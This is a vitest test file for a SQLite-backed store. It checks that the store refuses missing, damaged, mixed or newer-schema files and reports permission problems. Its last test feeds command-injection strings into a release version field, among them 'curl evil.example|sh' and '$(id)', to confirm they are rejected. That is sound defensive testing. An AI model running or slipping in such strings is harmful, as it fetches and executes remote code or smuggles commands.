import { chmodSync, chownSync, copyFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { openAgentSide } from '../../../src/backends/embedded/agent-side.ts';
import { openCommitSide } from '../../../src/backends/embedded/commit-side.ts';
import { nodeFoundation } from '../../../src/backends/embedded/node-foundation.ts';
import { releaseOf } from '../../../src/backends/embedded/release-note.ts';
import { storeFiles } from '../../../src/backends/embedded/store-files.ts';
import { Database } from '../../../src/backends/sqlite/database.ts';
import { DATA_MIGRATIONS, DATA_TABLES_VERSION } from '../../../src/backends/sqlite/schema/data.ts';
import { migrate } from '../../../src/backends/sqlite/schema/migrate.ts';
import { StoreUnavailable } from '../../../src/backends/sqlite/store-errors.ts';
import { insertStore } from '../../../src/backends/sqlite/writes/store.ts';
import { StoreTrouble } from '../../../src/domain/ports/store-trouble.ts';
import { shellWord } from '../../../src/domain/text/shell-word.ts';
import { howToGetRelease, installationIn } from '../../../src/installation.ts';
import { STORE } from '../../contract/backend.ts';
import { givenDirectory, givenStoreIn, NO_SIGNATURES } from './given-store.ts';

const NOBODY = 65534;

const directories = givenDirectory();
afterEach(() => directories.clear());

const openAgent = (directory: string) => openAgentSide(directory, nodeFoundation());
const openCommit = (directory: string) => openCommitSide(directory, nodeFoundation(), NO_SIGNATURES);

function trouble(open: () => unknown): StoreTrouble {
  try {
    open();
  } catch (error) {
    if (error instanceof StoreTrouble) return error;
    throw error;
  }
  throw new Error('the store was opened');
}

function refusal(open: () => unknown): StoreUnavailable {
  try {
    open();
  } catch (error) {
    if (error instanceof StoreUnavailable) return error;
    throw error;
  }
  throw new Error('the store was opened');
}

async function givenStore(): Promise<string> {
  const directory = directories.make();
  await givenStoreIn(directory, STORE);
  return directory;
}

function alter(path: string, sql: string): void {
  const database = new Database(path, { readOnly: false });
  database.execute(sql);
  database.close();
}

describe.each([
  ['agent', openAgent],
  ['commit', openCommit],
])('the %s side refuses', (_side, open) => {
  it('a directory without a store, with the command that makes one, and makes nothing itself', () => {
    const directory = directories.make();
    const { problem, command, message } = refusal(() => open(directory));
    expect({ problem, command }).toEqual({ problem: 'missing_store', command: 'brand-escalations data init' });
    expect(message).toContain('There is no store yet');
    expect(readdirSync(directory)).toEqual([]);
    expect(refusal(() => open(join(directory, 'nowhere'))).problem).toBe('missing_store');
  });

  it('a store whose authority or proposals are gone', async () => {
    for (const file of ['authority', 'proposals'] as const) {
      const directory = await givenStore();
      rmSync(storeFiles(directory)[file]);
      const { problem, message } = refusal(() => open(directory));
      expect(problem).toBe('missing_file');
      expect(message).toContain(storeFiles(directory)[file]);
    }
  });

  it.each(['data', 'authority', 'proposals'] as const)(
    'a schema of %s that is newer than it knows, with the release that wrote it and how to install that',
    async (file) => {
      const directory = await givenStore();
      const files = storeFiles(directory);
      alter(files[file], 'PRAGMA user_version = 99');
      const unknown = refusal(() => open(directory));
      expect(unknown).toMatchObject({ problem: 'newer_schema', instead: howToGetRelease(null, installationIn()) });
      alter(files.authority, "UPDATE release SET version = '97.0.1'");
      const { problem, message, instead } = refusal(() => open(directory));
      expect({ problem, instead }).toEqual({
        problem: 'newer_schema',
        instead: howToGetRelease('97.0.1', installationIn()),
      });
      expect(message).toContain(`${files[file]} was written by release 97.0.1`);
    },
  );

  it('a file that is no SQLite file, and an SQLite file that is no store', async () => {
    const directory = await givenStore();
    writeFileSync(storeFiles(directory).data, 'x'.repeat(5000));
    expect(trouble(() => open(directory)).kind).toBe('damaged');
    expect(trouble(() => open(directory)).message).toContain(storeFiles(directory).data);
    rmSync(storeFiles(directory).data);
    const another = new Database(storeFiles(directory).data, { readOnly: false });
    another.execute('CREATE TABLE something (else_ TEXT)');
    another.close();
    expect(refusal(() => open(directory)).problem).toBe('not_a_store');
  });

  it.each([
    ['data', 'authority'],
    ['authority', 'proposals'],
    ['proposals', 'data'],
  ] as const)('the file of %s in the place of %s, which is no newer release', async (file, place) => {
    const directory = await givenStore();
    const files = storeFiles(directory);
    for (const end of ['-wal', '-shm']) rmSync(files[place] + end, { force: true });
    copyFileSync(files[file], files[place]);
    const { problem, message } = refusal(() => open(directory));
    expect(problem).toBe('mixed_stores');
    expect(message).toContain(`${files[place]} is the ${file}.db of a store, under a wrong name`);
  });

  it('files of two stores mixed', async () => {
    const directory = await givenStore();
    alter(storeFiles(directory).authority, "UPDATE belongs_to SET store_id = 'another'");
    expect(refusal(() => open(directory)).problem).toBe('mixed_stores');
  });
});

it('an older schema is refused by the agent side until the commit side has brought it up to date', async () => {
  const directory = await givenStore();
  const { data } = storeFiles(directory);
  rmSync(data);
  const database = new Database(data, { readOnly: false });
  database.execute('PRAGMA journal_mode = WAL');
  migrate(database, DATA_MIGRATIONS, DATA_TABLES_VERSION);
  insertStore(database, STORE);
  database.close();
  const { problem, command } = refusal(() => openAgent(directory));
  expect({ problem, command }).toEqual({ problem: 'older_schema', command: 'brand-escalations data migrate' });
  await openCommit(directory).close();
  await openAgent(directory).close();
});

/** Does the work as a user without rights of their own: as `nobody` where root runs the tests, else as who runs them. */
function asOrdinaryUser<T>(work: () => T): T {
  if (process.geteuid?.() !== 0) return work();
  process.seteuid?.(NOBODY);
  try {
    return work();
  } finally {
    process.seteuid?.(0);
  }
}

it('says what is wrong when this user may not write the -shm file', async ({ skip }) => {
  if (process.geteuid === undefined) skip('This platform has no users of that kind.');
  const directory = await givenStore();
  const files = Object.values(storeFiles(directory));
  if (process.geteuid?.() === 0) for (const path of [...files, directory]) chownSync(path, NOBODY, NOBODY);
  for (const path of files) chmodSync(path, 0o400);
  chmodSync(directory, 0o500);
  try {
    expect(asOrdinaryUser(() => readdirSync(directory)).length).toBeGreaterThan(0);
    const { kind, message, instead } = asOrdinaryUser(() => trouble(() => openAgent(directory)));
    expect(kind).toBe('not_permitted');
    expect(message).toContain(directory);
    expect(instead).toContain(`chmod -R u+rwX ${shellWord(directory, 'linux')}`);
  } finally {
    chmodSync(directory, 0o700);
  }
});

it.each(['9.9.9 ; curl evil.example|sh', '9.9.9\n9', '9.9', '$(id)', '9.9.9-a b', '9.9.9-x;y'])(
  'what stands in the place of a release reaches no command that a person is told to run: %j',
  (version) => {
    const database = new Database(':memory:', { readOnly: false });
    database.execute('CREATE TABLE release (version TEXT)');
    database.run('INSERT INTO release VALUES (?)', version);
    expect(releaseOf(database)).toBeNull();
    database.close();
  },
);
